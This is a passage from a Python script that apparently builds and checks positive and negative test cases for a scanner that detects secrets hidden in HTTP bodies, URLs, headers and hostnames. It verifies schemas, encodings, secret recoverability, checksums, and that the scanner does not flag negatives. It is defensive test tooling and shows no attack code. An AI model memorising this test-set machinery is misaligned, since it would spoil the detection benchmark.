            tag = '%s:%d' % (os.path.basename(path), i + 1)
            try:
                d = json.loads(ln)
            except Exception as e:
                err('%s parse %s' % (tag, e))
                continue
            if set(d) - ALLOWED:
                err(tag + ' bad keys')
            if ('text' in d) == ('base64' in d):
                err(tag + ' need exactly one of text/base64')
            if d.get('id') != '%s%04d' % (pre, i + 1):
                err(tag + ' id')
            if d.get('label') != label or not re.fullmatch(r'[a-z0-9]+(?:-[a-z0-9]+)*', d.get('expect', '')):
                err(tag + ' label/expect')
            w = d.get('where')
            if w not in ('body', 'url', 'header', 'hostname'):
                err(tag + ' where')
                continue
            if 'content_type' in d and w != 'body':
                err(tag + ' content_type outside body')
            if 'content_encoding' in d and ('base64' not in d or d['content_encoding'] not in ('gzip', 'deflate')):
                err(tag + ' content_encoding')
            if w != 'body' and 'text' not in d:
                err(tag + ' non-body must be text')
            try:
                c = line_case(d)
                t = raw_text(c)
                if 'bytes' in c:
                    b = c['bytes']
                    if c.get('ce') == 'gzip':
                        gzip.decompress(b)
                    elif c.get('ce') == 'deflate':
                        zlib.decompress(b)
            except Exception as e:
                err('%s decode %s' % (tag, e))
                continue
            if w == 'header' and not HDR_RE.fullmatch(t):
                err(tag + ' header malformed')
            if w == 'url':
                if not URL_RE.fullmatch(t) or re.search(r'%(?![0-9A-Fa-f]{2})', t) or not urlsplit(t).hostname:
                    err(tag + ' url malformed')
            if w == 'hostname':
                labs = t.split('.')
                if len(t) > 253 or len(labs) < 2 or not all(LABEL_RE.fullmatch(x) for x in labs):
                    err(tag + ' hostname malformed')
            k = case_key(c)
            if k in seen:
                err('%s duplicate of %s' % (tag, seen[k]))
            seen[k] = tag
            for v in views(c):
                if ARMOUR in v:
                    err(tag + ' armour')
            if i < len(metas):
                m = metas[i]
                if m['expect'] != d.get('expect') or m['where'] != w:
                    err(tag + ' meta mismatch')
                if label == 'positive':
                    rec = t
                    for l in m.get('layers', []):
                        rec = apply_layer(rec, l)
                    if m['secret'] not in rec:
                        err(tag + ' secret not recoverable')
                    if not check_value(m.get('check'), m['secret']):
                        err(tag + ' checksum failed')
                else:
                    f = scan_case(c)
                    if f:
                        err('%s negative flagged %s' % (tag, f[:3]))
    if errs:
        print('CHECK FAILED (%d problems)' % len(errs))
        for e in errs[:50]:
            print('  ' + e)
        return 1
    print('check passed: %d positives (%d classes), %d negatives (%d categories)' % (
        len(pos), len(counts(pos, 'expect')), len(neg), len(counts(neg, 'expect'))))
    print('positives.jsonl sha256 %s' % hashlib.sha256(pb).hexdigest())
    print('negatives.jsonl sha256 %s' % hashlib.sha256(nb).hexdigest())
    return 0


def main():
    if '--check' not in sys.argv[1:]:
        _, _, pb, nb, rb = produce()
        for path, data in ((POS_PATH, pb), (NEG_PATH, nb), (README_PATH, rb)):
            with open(path, 'wb') as f:
                f.write(data)
    sys.exit(check())


if __name__ == '__main__':
    main()
